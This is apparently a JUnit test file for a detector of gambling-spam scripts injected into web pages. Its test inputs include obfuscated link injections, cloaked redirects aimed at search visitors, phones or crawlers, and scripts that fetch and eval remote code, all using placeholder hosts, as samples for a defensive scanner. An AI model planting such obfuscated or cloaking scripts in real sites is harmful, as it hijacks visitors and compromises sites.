package vn.vonggac.detector;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.vonggac.detect.ScriptOutcome;
import vn.vonggac.detect.ScriptOutcome.Means;
import vn.vonggac.detect.ScriptOutcome.Sign;
import vn.vonggac.detect.ScriptOutcome.Target;
import vn.vonggac.detect.ScriptOutcome.Visitor;
import vn.vonggac.page.Script;

import static org.assertj.core.api.Assertions.assertThat;

class ScriptsTest {

    private static final String BET = "https://nhacai789.example/";
    private static final String LINK = "<a href=\"https://nhacai789.example/\">nhà cái uy tín</a>";

    private final Scripts scripts = new Scripts(ScriptBounds.defaults());

    @ParameterizedTest
    @ValueSource(strings = {
            "document.write('<a href=\"https://nhacai789.example/\">nhà cái uy tín</a>')",
            "document.write('<a href=\"https://nhacai' + '789.exam' + 'ple/\">nhà c' + 'ái uy tín</a>')",
            "document.write('\\x3ca href=\"https://nhacai789.example/\">nh\\u00e0 c\\u00e1i uy t\\u00edn</a>')",
            "document['wri'+'te']('<a href=\"https://nhacai789.example/\">nhà cái uy tín</a>')",
            "document.write('>a/<nít yu iác àhn>\"/elpmaxe.987iacahn//:sptth\"=ferh a<'.split('').reverse().join(''))",
            "document.write(['<a href=\"https:','','nhacai789.example','\">nhà cái uy tín</a>'].join('/'))",
            "document.write(unescape('%3Ca%20href%3D%22https%3A//nhacai789.example/%22%3Enh%C3%A0%20c%C3%A1i%20uy%20t%C3%ADn%3C/a%3E'))",
            "var s='';[60,97,32,104,114,101,102,61,34,104,116,116,112,115,58,47,47,110,104,97,99,97,105,55,56,57,46,101,120,97,109,112,108,101,47,34,62,110,104,224,32,99,225,105,32,117,121,32,116,237,110,60,47,97,62].forEach(function(c){s+=String.fromCharCode(c)});document.write(s)",
            "eval(\"document.write('<a href=\\\"https://nhacai789.example/\\\">nhà cái uy tín</a>')\")",
            "new Function('d', \"d.body.innerHTML += '<a href=\\\"https://nhacai789.example/\\\">nhà cái uy tín</a>'\")(document)",
            "window.onload=function(){document.body.insertAdjacentHTML('beforeend','<a href=\"https://nhacai789.example/\">nhà cái uy tín</a>')}",
            "$(function(){ $('#footer').append('<a href=\"https://nhacai789.example/\">nhà cái uy tín</a>') })",
            "var a=document.createElement('a');a.href='https://nhacai789.example/';a.innerHTML='nhà cái uy tín';document.body.appendChild(a)",
            "setTimeout(\"document.write('<a href=\\\"https://nhacai789.example/\\\">nhà cái uy tín</a>')\", 10)"})
    void writtenLinkComesOutHoweverItIsHidden(String script) {
        assertThat(writes(script)).contains(LINK);
    }

    @Test
    void base64OfUtf8ComesOut() {
        String packed = Base64.getEncoder().encodeToString(LINK.getBytes(StandardCharsets.UTF_8));

        assertThat(writes("document.write(atob('" + packed + "'))")).contains(LINK);
        assertThat(writes("document.write(decodeURIComponent(escape(window.atob('" + packed + "'))))"))
                .contains(LINK);
        assertThat(writes("var p='" + packed + "',q=p;document.body.innerHTML=atob(q.substring(0))"))
                .contains(LINK);
    }

    @Test
    void packedScriptIsUnpacked() {
        String packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)"
                + "{d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c])"
                + "{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1=\"2://3.4/\"',5,5,"
                + "'window|location|https|nhacai789|example'.split('|'),0,{}))";

        ScriptOutcome outcome = only(packed);

        assertThat(outcome.signs()).contains(Sign.PACKER);
        assertThat(outcome.targets()).extracting(Target::url).contains(BET);
    }

    @ParameterizedTest
    @ValueSource(strings = {"location='https://nhacai789.example/'",
            "window.location.href='https://nhacai789.example/'",
            "top.location.replace('https://nhacai789.example/')",
            "self['loca'+'tion']['href']='https://nhacai789.example/'",
            "document.location.assign('https://nhacai789.example/')",
            "window.addEventListener('load',()=>{location.href='https://nhacai789.example/'})",
            "var u='aHR0cHM6Ly9uaGFjYWk3ODkuZXhhbXBsZS8=';location.href=atob(u)",
            "var a=document.createElement('a');a.href='https://nhacai789.example/';a.click()",
            "setTimeout(function(){window.location='https://nhacai789.example/'},3000)"})
    void redirectIsSeen(String script) {
        assertThat(only(script).targets())
                .containsExactly(new Target(BET, Means.LOCATION, Set.of(Visitor.values())));
    }

    @Test
    void redirectOfVisitorsFromSearchIsConditional() {
        Target target = target("if(/google|bing|coccoc/.test(document.referrer)){location='" + BET + "'}");

        assertThat(target.visitors()).containsExactlyInAnyOrder(Visitor.FROM_SEARCH, Visitor.PHONE);
        assertThat(target.conditional()).isTrue();
    }

    @Test
    void redirectOfPhonesIsConditional() {
        Target target = target(
                "if(navigator.userAgent.match(/Android|iPhone/i))location.replace('" + BET + "')");

        assertThat(target.visitors()).containsExactly(Visitor.PHONE);
    }

    @Test
    void redirectForCrawlersIsConditional() {
        Target target = target(
                "navigator.userAgent.toLowerCase().indexOf('googlebot')>-1&&(top.location='" + BET
                        + "')");

        assertThat(target.visitors()).containsExactly(Visitor.SEARCH_ENGINE);
    }

    @Test
    void symbolsOnlyScriptIsASign() {
        assertThat(only("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]".repeat(20) + "[(![]+[])[+[]]]").signs())
                .contains(Sign.SYMBOLS_ONLY);
    }

    @Test
    void handlerOfLoadingIsRunAndOneOfAClickIsNot() {
        String code = "location.href='" + BET + "'";

        assertThat(scripts.read(PageOf.scripts(List.of(PageOf.handler(Script.Kind.UNASKED, code)))))
                .hasSize(1);
        assertThat(scripts.read(PageOf.scripts(List.of(PageOf.handler(Script.Kind.HANDLER, code)))))
                .allSatisfy(ScriptsTest::doesNothing);
    }

    @ParameterizedTest
    @ValueSource(strings = {"$('.selectLangs').change(function(){location = $(this).val();});",
            "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date())",
            "$('#a').click(function(){ window.location.href = 'https://other.example/' })",
            "function go(){ location.href='https://other.example/' }",
            "if(location.protocol!='https:')location.href='https:'+location.href.substring(location.protocol.length)",
            "document.title", "var x = {\"a\": \"<b>x</b>\"}; document.getElementById('q').innerHTML = x.a;"})
    void ordinaryScriptDoesNothing(String script) {
        assertThat(scripts.read(PageOf.scripts(script))).allSatisfy(ScriptsTest::doesNothing);
    }

    /** What it names a person may still start. */
    private static void doesNothing(ScriptOutcome outcome) {
        assertThat(outcome.writes()).isEmpty();
        assertThat(outcome.targets()).extracting(Target::means).containsOnly(Means.NAMED);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Reflect.set(globalThis,['loc','ation'].join(''),unescape('%68%74%74%70%73%3a%2f%2fnhacai789.example/'))",
            "window.name.length||parent['loc\\x61tion']['\\x61ssign']('\\x2f\\x2fnhacai789.example/')",
            "[].constructor.constructor('u','location=u')(['https','nhacai789.example/'].join('://'))",
            "var m={a:'http',b:'s:/'};[].constructor.constructor('u','location=u')(m.a+m.b+'/nhacai789.example/')",
            "(async()=>{await 0;location='https://nhacai789.'+'example/'})()",
            "localStorage.da||window.open('https://nhacai789.example/')",
            "!function(){var d=[51,47,47,43,40,97,116,116,53,51,58,56,58,50,108,99,98,117,62,35,58,54,43,55,62,116],s='';"
                    + "for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^91);Function('location=\"'+s+'\"')()}()"})
    void roundaboutWayIsFollowed(String script) {
        assertThat(only(script).targets()).extracting(Target::url).first().asString()
                .endsWith("//nhacai789.example/");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "fetch('https://lenh.example.net/a').then(r=>r.json()).then(j=>{if(j.on)location=j.u})",
            "(async function(){const r=await fetch('https://lenh.example.net/a');location.replace((await r.json()).u)})()",
            "fetch('https://lenh.example.net/a').then(r=>r.text()).then(t=>eval(t))",
            "var x=new XMLHttpRequest();x.onload=function(){location.href=JSON.parse(this.responseText).url};"
                    + "x.open('GET','https://lenh.example.net/a');x.send()",
            "$.getJSON('https://lenh.example.net/a',function(d){if(d.x)top.location='https://'+d.host+'/'})"})
    void answerThatIsObeyedIsTold(String script) {
        assertThat(only(script).targets())
                .anySatisfy(target -> assertThat(target).isEqualTo(new Target("https://lenh.example.net/a",
                        Means.OBEYED, Set.of(Visitor.values()))));
    }

    @Test
    void answerThatIsTakenAlongIsNotObeyed() {
        assertThat(only("fetch('https://lenh.example.net/a').then(r=>r.json())"
                + ".then(j=>{location='https://nhacai789.example/?q='+j.q})").targets())
                .extracting(Target::means).doesNotContain(Means.OBEYED);
    }

    @Test
    void sameScriptsReadTheSameInTwoThreads() {
        var page = PageOf.scripts("eval(unescape('%64ocument.write(\"<a href=//a.example>x</a>\")'))",
                "if(document.referrer)location='" + BET + "'");
        List<List<ScriptOutcome>> read = List.of(1, 2, 3, 4).parallelStream().map(i -> scripts.read(page))
                .toList();

        assertThat(Set.copyOf(read)).hasSize(1);
    }

    private Target target(String script) {
        return only(script).targets().getFirst();
    }

    private ScriptOutcome only(String script) {
        List<ScriptOutcome> outcomes = scripts.read(PageOf.scripts(script));
        assertThat(outcomes).hasSize(1);
        return outcomes.getFirst();
    }

    private Set<String> writes(String script) {
        return scripts.read(PageOf.scripts(script)).stream().flatMap(outcome -> outcome.writes().stream())
                .collect(Collectors.toSet());
    }
}
